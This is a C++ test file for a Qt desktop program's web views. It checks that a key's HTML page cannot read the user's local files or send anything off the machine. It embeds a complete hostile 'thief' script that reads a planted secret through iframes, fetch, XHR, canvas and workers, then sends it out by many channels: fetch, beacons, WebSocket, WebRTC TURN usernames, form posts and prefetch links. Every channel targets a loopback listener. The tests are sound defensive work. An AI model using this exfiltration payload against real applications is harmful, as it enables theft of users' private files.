// A key's page that tries every way a page has to read the user's files and
// to send what it read off the machine, shown in every view that can show a
// key's page: the report view (as the database page, as a report and as a
// page a report links to), the open dialog's preview and a picture window.
// Beside the key lies a fake home whose secret and picture must stay unread,
// and a listener on this computer stands in for the network.
#include <gtest/gtest.h>

#include <QDir>
#include <QFile>
#include <QPointer>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTemporaryDir>
#include <QTreeWidgetItem>
#include <QUdpSocket>
#include <QUuid>
#include <memory>

#include "database/ZAVDoc.h"
#include "reports/qt/HelpDocument.h"
#include "reports/qt/HelpHtmlView.h"
#include "reports/qt/HelpMDIChildWnd.h"
#include "reports/qt/PageScript.h"
#include "reports/qt/ReportPage.h"
#include "reports/qt/ZAVView.h"
#include "shell/qt/DirTreeCtrl.h"
#include "shell/qt/DlgQOROpen.h"
#include "ViewTestSupport.h"

using namespace viewtest;

namespace {

// Everything off the machine: a TCP listener and a UDP socket on loopback,
// keeping every byte that reaches them.
class Listener {
 public:
  Listener() {
    m_tcp.listen(QHostAddress::LocalHost);
    m_udp.bind(QHostAddress::LocalHost, 0);
    QObject::connect(&m_tcp, &QTcpServer::newConnection, [this] {
      while (QTcpSocket* socket = m_tcp.nextPendingConnection()) {
        m_contacts << QStringLiteral("tcp");
        QObject::connect(socket, &QTcpSocket::readyRead, [this, socket] { m_bytes += socket->readAll(); });
      }
    });
    QObject::connect(&m_udp, &QUdpSocket::readyRead, [this] {
      while (m_udp.hasPendingDatagrams()) {
        QByteArray datagram(static_cast<int>(m_udp.pendingDatagramSize()), '\0');
        m_udp.readDatagram(datagram.data(), datagram.size());
        m_contacts << QStringLiteral("udp");
        m_bytes += datagram;
      }
    });
  }
  quint16 TcpPort() const { return m_tcp.serverPort(); }
  quint16 UdpPort() const { return m_udp.localPort(); }
  const QStringList& Contacts() const { return m_contacts; }
  const QByteArray& Bytes() const { return m_bytes; }

 private:
  QTcpServer m_tcp;
  QUdpSocket m_udp;
  QStringList m_contacts;
  QByteArray m_bytes;
};

void WriteFile(const QString& path, const QByteArray& bytes) {
  QFile file(path);
  ASSERT_TRUE(file.open(QIODevice::WriteOnly)) << path.toStdString();
  file.write(bytes);
}

// A one-pixel PNG.
const QByteArray kPicture = QByteArray::fromBase64(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==");

// The page's script: every read it manages is kept in the attribute
// data-stolen and in the title, then sent out by every channel; data-done
// tells that it has tried everything.
const char kThief[] = R"JS(
var HOME = '%HOME%', T = %TCP%, U = %UDP%, NET = 'http://127.0.0.1:' + T + '/';
var stolen = [];
function keep(what, text) { if (text) stolen.push(what + '=' + String(text).slice(0, 300)); }
function bounded(promise) {
  return Promise.race([promise.catch(function () { return ''; }),
                       new Promise(function (r) { setTimeout(function () { r(''); }, 4000); })]);
}
function frameText(tag, attr, src) {
  return bounded(new Promise(function (resolve) {
    var f = document.createElement(tag);
    f.style.display = 'none';
    f.setAttribute(attr, src);
    f.onload = function () {
      try { resolve(f.contentDocument.body.innerText); } catch (e) { resolve(''); }
    };
    f.onerror = function () { resolve(''); };
    document.body.appendChild(f);
  }));
}
function fetchText(src) { return bounded(fetch(src).then(function (r) { return r.ok ? r.text() : ''; })); }
function xhrText(src) {
  return bounded(new Promise(function (resolve) {
    var x = new XMLHttpRequest();
    x.open('GET', src);
    x.onload = function () { resolve(x.responseText); };
    x.onerror = function () { resolve(''); };
    x.send();
  }));
}
function pixels(src) {
  return bounded(new Promise(function (resolve) {
    var img = new Image();
    img.onload = function () {
      try {
        var c = document.createElement('canvas'); c.width = 1; c.height = 1;
        c.getContext('2d').drawImage(img, 0, 0);
        resolve(c.toDataURL());
      } catch (e) { resolve(''); }
    };
    img.onerror = function () { resolve(''); };
    img.src = src;
  }));
}
function workerText(src) {
  return bounded(new Promise(function (resolve) {
    try {
      var w = new Worker(src);
      w.onmessage = function (e) { resolve(e.data); };
      w.onerror = function () { resolve(''); };
    } catch (e) { resolve(''); }
  }));
}
var workerCode = "fetch('" + HOME + "secret.txt').then(function(r){return r.text();})" +
                 ".then(function(t){postMessage(t);},function(){postMessage('');});";
var reads = [
  ['frame', frameText('iframe', 'src', HOME + 'secret.txt')],
  ['listing', frameText('iframe', 'src', HOME)],
  ['object', frameText('object', 'data', HOME + 'secret.txt')],
  ['embed', frameText('embed', 'src', HOME + 'secret.txt')],
  ['link', frameText('iframe', 'src', 'out.txt')],
  ['folderlink', frameText('iframe', 'src', 'outdir/secret.txt')],
  ['up', frameText('iframe', 'src', '../home/secret.txt')],
  ['redirect', frameText('iframe', 'src', 'redirect.htm')],
  ['fetch', fetchText(HOME + 'secret.txt')],
  ['fetchlink', fetchText('out.txt')],
  ['fetchup', fetchText('../home/secret.txt')],
  ['xhr', xhrText(HOME + 'secret.txt')],
  ['xhrlink', xhrText('outdir/secret.txt')],
  ['canvas', pixels(HOME + 'pic.png')],
  ['canvaslink', pixels('outdir/pic.png')],
  ['worker', workerText('worker.js')],
  ['blobworker', workerText(URL.createObjectURL(new Blob([workerCode], {type: 'text/javascript'})))]
];
function send(payload) {
  var q = encodeURIComponent(payload);
  // The page's own peer connection, and those of a fresh frame and of a
  // frame written from text.
  var blank = document.createElement('iframe'); document.body.appendChild(blank);
  var written = document.createElement('iframe'); written.srcdoc = '<p>x</p>'; document.body.appendChild(written);
  var peers = [window%FRAMEPEERS%].map(function (w) {
    try {
      var Peer = w.RTCPeerConnection || w.webkitRTCPeerConnection;
      var pc = new Peer({iceServers: [{
        urls: ['turn:127.0.0.1:' + U + '?transport=udp', 'turn:127.0.0.1:' + T + '?transport=tcp',
               'stun:127.0.0.1:' + U],
        username: payload.slice(0, 200) || 'probe', credential: 'x'}]});
      pc.createDataChannel('d');
      pc.createOffer().then(function (o) { return pc.setLocalDescription(o); });
      return new Promise(function (r) {
        pc.onicegatheringstatechange = function () { if (pc.iceGatheringState === 'complete') r(); };
        setTimeout(r, 4000);
      });
    } catch (e) { return Promise.resolve(); }
  });
  window.gathering = Promise.all(peers);
  ['dns-prefetch', 'preconnect', 'prefetch', 'prerender'].forEach(function (rel) {
    var l = document.createElement('link'); l.rel = rel; l.href = NET + rel + '?' + q; document.head.appendChild(l);
  });
  try { fetch(NET + 'fetch?' + q, {mode: 'no-cors'}).catch(function () {}); } catch (e) {}
  try { var x = new XMLHttpRequest(); x.open('GET', NET + 'xhr?' + q); x.send(); } catch (e) {}
  try { navigator.sendBeacon(NET + 'beacon', payload); } catch (e) {}
  try { new WebSocket('ws://127.0.0.1:' + T + '/ws?' + q); } catch (e) {}
  try { new EventSource(NET + 'events?' + q); } catch (e) {}
  try { window.open(NET + 'open?' + q); } catch (e) {}
  new Image().src = NET + 'img?' + q;
  var f = document.getElementById('form'); f.elements.q.value = payload; f.submit();
  var frame = document.createElement('iframe'); frame.src = NET + 'frame?' + q; document.body.appendChild(frame);
}
Promise.all(reads.map(function (r) { return r[1]; })).then(function (texts) {
  texts.forEach(function (t, i) { keep(reads[i][0], t); });
  var payload = stolen.join('|');
  document.title = payload;
  document.documentElement.setAttribute('data-stolen', payload);
  send(payload || 'probe');
  return window.gathering;
}).then(function () {
  document.documentElement.setAttribute('data-done', '1');
  window.location.href = NET + 'moved';
});
)JS";

// The static half: what a page without script still asks for.
const char kStatic[] = R"HTML(<html><head><title>thief</title>
<link rel='stylesheet' href='NET/sheet.css'>
<link rel='dns-prefetch' href='//127.0.0.1:TCP'><link rel='preconnect' href='NET/'>
<link rel='prefetch' href='NET/prefetched'>
<style>@font-face { font-family: leak; src: url(NET/font.woff); }
body { background: url(NET/background.png); } .f { font-family: leak; }</style>
</head><body><p class='f'>text</p>
<img src='NET/img.png'><video src='NET/video.mp4' autoplay muted></video><audio src='NET/audio.mp3' autoplay></audio>
<iframe src='HOMEsecret.txt'></iframe><img src='HOMEpic.png'>
<object data='NET/object'></object><embed src='NET/embed'>
<iframe name='sink' style='display:none'></iframe>
<form id='form' action='NET/form' method='post' target='sink'><input name='q'></form>
<script>SCRIPT</script></body></html>)HTML";

class PageExfiltration : public ::testing::Test {
 protected:
  void SetUp() override {
    ASSERT_TRUE(m_root.isValid());
    QDir root(m_root.path());
    ASSERT_TRUE(root.mkdir("key") && root.mkdir("home"));
    m_key = root.filePath("key");
    m_home = root.filePath("home");
    m_secret = QStringLiteral("QOR-WITNESS-") + QUuid::createUuid().toString(QUuid::WithoutBraces);
    WriteFile(m_home + "/secret.txt", m_secret.toUtf8());
    WriteFile(m_home + "/pic.png", kPicture);
    WriteFile(m_key + "/pic.png", kPicture);
    WriteFile(m_key + "/key.qor", "not read here");
    WriteFile(m_key + "/key.htm", ThiefPage().toUtf8());
    WriteFile(m_key + "/worker.js", QStringLiteral("fetch('%1secret.txt').then(function(r){return r.text();})"
                                                   ".then(function(t){postMessage(t);},function(){postMessage('');});")
                                        .arg(HomeUrl())
                                        .toUtf8());
    WriteFile(m_key + "/redirect.htm",
              QStringLiteral("<meta http-equiv='refresh' content='0;url=%1secret.txt'>").arg(HomeUrl()).toUtf8());
    ASSERT_TRUE(QFile::link(m_home + "/secret.txt", m_key + "/out.txt"));
    ASSERT_TRUE(QFile::link(m_home, m_key + "/outdir"));
    m_doc.m_pathName = (m_key + "/key.qor").toStdString();
  }

  QString HomeUrl() const { return QUrl::fromLocalFile(m_home + "/").toString(QUrl::FullyEncoded); }

  // framePeers: the frames' peer connections are tried too.
  QString ThiefPage(bool framePeers = false) const {
    const QString net = QStringLiteral("http://127.0.0.1:%1").arg(m_listener.TcpPort());
    QString script = QString::fromUtf8(kThief);
    script.replace("%HOME%", HomeUrl())
        .replace("%TCP%", QString::number(m_listener.TcpPort()))
        .replace("%UDP%", QString::number(m_listener.UdpPort()))
        .replace("%FRAMEPEERS%", framePeers ? ", blank.contentWindow, written.contentWindow" : "");
    return QString::fromUtf8(kStatic)
        .replace("NET", net)
        .replace("TCP", QString::number(m_listener.TcpPort()))
        .replace("HOME", HomeUrl())
        .replace("SCRIPT", script);
  }

  // Read in the program's own world, which the page's scripts cannot touch.
  static QString Read(QWebEnginePage& page, const char* expression) {
    QVariant result;
    bool finished = false;
    page.runJavaScript(QString::fromUtf8(expression), kQorHostWorld, [&](const QVariant& value) {
      result = value;
      finished = true;
    });
    WaitUntil([&] { return finished; }, 10000);
    return result.toString();
  }

  // Waits until the page has tried everything (bounded when it runs no
  // script), lets the last sends arrive, then checks that nothing got out
  // and nothing from the fake home was read.
  void ExpectNothingLeaked(QWebEnginePage& page, bool runsScript = true) {
    const bool done = WaitUntil([&] { return Read(page, "document.documentElement.getAttribute('data-done')") == "1"; },
                                runsScript ? 20000 : 4000);
    if (runsScript) {
      EXPECT_TRUE(done) << "the page's script never finished";
    }
    WaitUntil([] { return false; }, 1500);  // the sends started last
    EXPECT_EQ(m_listener.Contacts().join(' ').toStdString(), "") << m_listener.Bytes().left(800).toStdString();
    EXPECT_FALSE(m_listener.Bytes().contains(m_secret.toUtf8()));
    const QString stolen = Read(page, "document.documentElement.getAttribute('data-stolen') || ''");
    EXPECT_EQ(stolen.left(800).toStdString(), "");
    EXPECT_FALSE(page.title().contains(m_secret));
    EXPECT_FALSE(Read(page, "document.documentElement.outerHTML").contains(m_secret));
  }

  QTemporaryDir m_root;
  QString m_key, m_home, m_secret;
  Listener m_listener;
  CZAVDoc m_doc;
};

TEST_F(PageExfiltration, TheDatabasePageReadsNothingOutsideAndSendsNothing) {
  CZAVView view(m_doc);
  view.resize(800, 600);
  view.show();
  ASSERT_TRUE(WaitForLoad(view.Page(), [&] { view.NavigateTo(m_doc.GetOpeningPagePath()); }));
  ExpectNothingLeaked(view.Page(), false);
  EXPECT_EQ(view.Page().title(), "thief") << "the key's own script did not run";
}

TEST_F(PageExfiltration, AReportPageReadsNothingOutsideAndSendsNothing) {
  CZAVView view(m_doc);
  std::vector<Call> calls;
  ASSERT_TRUE(WaitForLoad(
      view.Page(), [&] { view.ShowPage(ThiefPage().toStdString(), std::make_unique<RecordingAction>(calls, true)); }));
  ExpectNothingLeaked(view.Page());
}

TEST_F(PageExfiltration, APageAReportLinksToReadsNothingOutsideAndSendsNothing) {
  CZAVView view(m_doc);
  std::vector<Call> calls;
  ASSERT_TRUE(WaitForLoad(view.Page(), [&] {
    view.ShowPage("<html><body><a id='page' href='key.htm'>the key's page</a></body></html>",
                  std::make_unique<RecordingAction>(calls, false));
  }));
  ASSERT_TRUE(MouseClick(*view.WebView(), ById("page")));
  EXPECT_TRUE(WaitUntil([&] { return view.Page().url().path().endsWith("key.htm"); }))
      << view.Page().url().toString().toStdString();
  ASSERT_TRUE(WaitUntil([&] { return Read(view.Page(), "document.readyState") == "complete"; }));
  ExpectNothingLeaked(view.Page(), false);
  EXPECT_EQ(view.Page().title(), "thief") << "the key's own script did not run";
}

TEST_F(PageExfiltration, TheOpenDialogsPreviewRunsNoScriptAndSendsNothing) {
  CDlgQOROpen dialog([](const std::string&) { return false; });
  dialog.OnInitDialog();
  CDirTreeCtrl* tree = dialog.Tree();
  ASSERT_TRUE(tree->SetSelPath(m_key));
  QTreeWidgetItem* folder = tree->currentItem();
  QTreeWidgetItem* key = nullptr;
  for (int i = 0; i < folder->childCount(); ++i)
    if (folder->child(i)->text(0).endsWith("key.qor")) key = folder->child(i);
  ASSERT_NE(key, nullptr);
  dialog.resize(800, 600);
  dialog.show();
  QPointer<QWebEngineView> preview;
  int loads = 0;
  tree->setCurrentItem(key);
  preview = dialog.findChild<QWebEngineView*>("preview");
  ASSERT_FALSE(preview.isNull());
  QObject::connect(preview, &QWebEngineView::loadFinished, [&] { ++loads; });
  EXPECT_EQ(dialog.PreviewPath(), m_key + "/key.htm");
  ASSERT_TRUE(WaitUntil([&] { return loads > 0 || preview->url().path().endsWith("key.htm"); }));
  ASSERT_TRUE(WaitUntil([&] { return Read(*preview->page(), "document.readyState") == "complete"; }));
  ExpectNothingLeaked(*preview->page(), false);
  EXPECT_EQ(Read(*preview->page(), "document.title"), "thief") << "the page's own script did not run";
}

// A picture link may carry its own page text, which a picture window shows.
TEST_F(PageExfiltration, APictureWindowsPageReadsNothingOutsideAndSendsNothing) {
  CHelpDocument document;
  document.m_html = ThiefPage().toStdString();
  QPointer<CHelpHtmlView> view = OpenHelpWindow(document, nullptr);
  ASSERT_FALSE(view.isNull());
  ASSERT_TRUE(WaitUntil([&] { return Read(*view->WebView()->page(), "document.readyState") == "complete"; }));
  ExpectNothingLeaked(*view->WebView()->page());
  delete view.data();
}

// A key's page whose script would run from every place a page can hold
// one: inline, from an event handler, from a link, and in frames written
// from text, from a data address and from a script address; each would
// mark the page, call the listener and gather peer connections towards it.
QString ScriptEverywherePage(quint16 tcp, quint16 udp) {
  const QString run =
      QStringLiteral(
          "try { top.document.documentElement.setAttribute('data-ran', 'WHERE'); } catch (e) {}"
          "try { document.documentElement.setAttribute('data-ran', 'WHERE'); } catch (e) {}"
          "new Image().src = 'http://127.0.0.1:%1/WHERE';"
          "try { var pc = new RTCPeerConnection({iceServers: [{urls: ['turn:127.0.0.1:%2?transport=udp',"
          " 'turn:127.0.0.1:%1?transport=tcp'], username: 'u', credential: 'c'}]});"
          " pc.createDataChannel('d'); pc.createOffer().then(function (o) { pc.setLocalDescription(o); }); }"
          " catch (e) {}")
          .arg(tcp)
          .arg(udp);
  auto at = [&](const char* where) { return QString(run).replace("WHERE", where); };
  const QString inFrame = QStringLiteral("<script>%1</script>").arg(at("srcdoc")).toHtmlEscaped();
  return QStringLiteral(
             "<!DOCTYPE html><html><head><title>quiet</title></head><body>"
             "<script>%1</script><img src='missing.png' onerror=\"%2\"><body onload=\"%3\">"
             "<a id='run' href=\"javascript:%4\">run</a>"
             "<iframe srcdoc=\"%5\"></iframe>"
             "<iframe src=\"data:text/html,%6\"></iframe>"
             "<iframe src=\"javascript:'%7'\"></iframe>"
             "<a id='attr' href='qorattr:Red'>red</a></body></html>")
      .arg(at("inline"), at("handler").toHtmlEscaped(), at("onload").toHtmlEscaped(), at("link").toHtmlEscaped(),
           inFrame, QString::fromUtf8(QUrl::toPercentEncoding(QStringLiteral("<script>%1</script>").arg(at("data")))),
           QStringLiteral("<script>%1</script>").arg(at("js")).toHtmlEscaped());
}

// A key's own page, and every frame it holds, runs no script at all, while
// the program's private links keep working on it.
TEST_F(PageExfiltration, AKeysPageRunsNoScriptInItselfOrItsFramesAndItsLinksWork) {
  WriteFile(m_key + "/key.htm", ScriptEverywherePage(m_listener.TcpPort(), m_listener.UdpPort()).toUtf8());
  CZAVView view(m_doc);
  view.resize(800, 600);
  view.show();
  std::vector<Call> calls;
  // As the database page, then as a page a report links to.
  for (int way = 0; way < 2; ++way) {
    ASSERT_TRUE(WaitForLoad(view.Page(), [&] {
      view.ShowPage("<html><body><a id='page' href='key.htm'>the key's page</a></body></html>",
                    std::make_unique<RecordingAction>(calls, false));
    }));
    if (way == 0) {
      ASSERT_TRUE(WaitForLoad(view.Page(), [&] { view.NavigateTo(m_doc.GetOpeningPagePath()); }));
    } else {
      ASSERT_TRUE(MouseClick(*view.WebView(), ById("page")));
      ASSERT_TRUE(WaitUntil([&] { return view.Page().url().path().endsWith("key.htm"); }));
    }
    ASSERT_TRUE(WaitUntil([&] { return Read(view.Page(), "document.readyState") == "complete"; }));
    ASSERT_TRUE(MouseClick(*view.WebView(), ById("run")));
    WaitUntil([] { return false; }, 2000);  // what a script would send, had one run
    EXPECT_EQ(Read(view.Page(), "document.documentElement.getAttribute('data-ran') || ''").toStdString(), "");
    EXPECT_EQ(view.Page().title(), "quiet");
    EXPECT_EQ(m_listener.Contacts().join(' ').toStdString(), "") << m_listener.Bytes().left(300).toStdString();
    calls.clear();
    ASSERT_TRUE(MouseClick(*view.WebView(), ById("attr")));
    ASSERT_TRUE(WaitUntil([&] { return !calls.empty(); })) << "the private link of the key's page";
    EXPECT_EQ(calls.front().address, "qorattr:Red");
  }
}

// A key's files are served only as types that cannot carry script: a
// picture or style sheet shows, an SVG, XHTML, XML or script file is
// refused even as a frame or picture of the key's page.
TEST_F(PageExfiltration, AKeysFolderServesOnlyTypesThatCarryNoScript) {
  const QString svg = QStringLiteral(
                          "<svg xmlns='http://www.w3.org/2000/svg' width='5' height='5'>"
                          "<script>new Image().src='http://127.0.0.1:%1/svg';</script></svg>")
                          .arg(m_listener.TcpPort());
  WriteFile(m_key + "/p.svg", svg.toUtf8());
  WriteFile(m_key + "/p.xhtml", svg.toUtf8());
  WriteFile(m_key + "/p.xml", svg.toUtf8());
  WriteFile(m_key + "/p.js", "x");
  WriteFile(m_key + "/P.PNG", kPicture);
  WriteFile(m_key + "/key.htm",
            QStringLiteral("<html><body><img id='png' src='P.PNG'><img id='svgimg' src='p.svg'>"
                           "<iframe src='p.svg'></iframe><iframe src='p.xhtml'></iframe><iframe src='p.xml'></iframe>"
                           "<object data='p.svg'></object><embed src='p.svg'></body></html>")
                .toUtf8());
  CZAVView view(m_doc);
  ASSERT_TRUE(WaitForLoad(view.Page(), [&] { view.NavigateTo(m_doc.GetOpeningPagePath()); }));
  EXPECT_TRUE(WaitUntil([&] { return Read(view.Page(), "document.getElementById('png').naturalWidth") == "1"; }));
  EXPECT_TRUE(WaitUntil([&] { return Read(view.Page(), "document.getElementById('svgimg').complete") == "true"; }));
  EXPECT_EQ(Read(view.Page(), "document.getElementById('svgimg').naturalWidth"), "0");
  WaitUntil([] { return false; }, 1500);
  EXPECT_EQ(m_listener.Contacts().join(' ').toStdString(), "");
}

}  // namespace
